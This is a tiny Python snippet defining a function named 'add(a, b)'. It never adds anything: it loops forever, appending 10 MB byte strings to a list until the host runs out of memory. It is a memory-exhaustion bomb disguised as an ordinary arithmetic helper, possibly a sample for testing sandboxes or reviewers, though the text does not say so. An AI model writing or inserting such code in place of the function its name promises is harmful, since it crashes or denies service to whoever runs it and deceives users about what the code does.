def add(a, b):
    x = []
    while True:
        x.append(b"x" * 10_000_000)
